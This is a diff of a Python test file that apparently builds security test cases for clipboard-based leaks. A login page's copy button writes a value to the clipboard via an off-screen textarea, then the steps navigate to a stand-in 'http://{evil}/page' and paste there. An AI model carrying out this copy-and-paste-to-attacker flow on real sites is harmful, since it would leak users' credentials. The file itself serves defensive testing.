@@ -192,7 +192,7 @@ _COPIES: Final[dict[str, str]] = {
     "writes it": "navigator.clipboard.writeText(p.value)",
 }
 COPIED: Final = tuple(
-    Case(f"copied by the page's button that {name}", quick=name == "writes it",
+    Case(f"copied by the page's button that {name}", quick=name == "selects it",
          do=(*_types(_HOLDER), Click(point=OTHER), Goto(url="http://{evil}/page"), Click(point=OTHER), PressKeys(keys=("ctrl", "v")),
              PressKeys(keys=("shift", "insert"))),
          html=f"{LOGIN}<textarea id=t style='position:absolute;left:-900px'></textarea><button style='{SECOND}' onclick=\"{script}\">Copy"
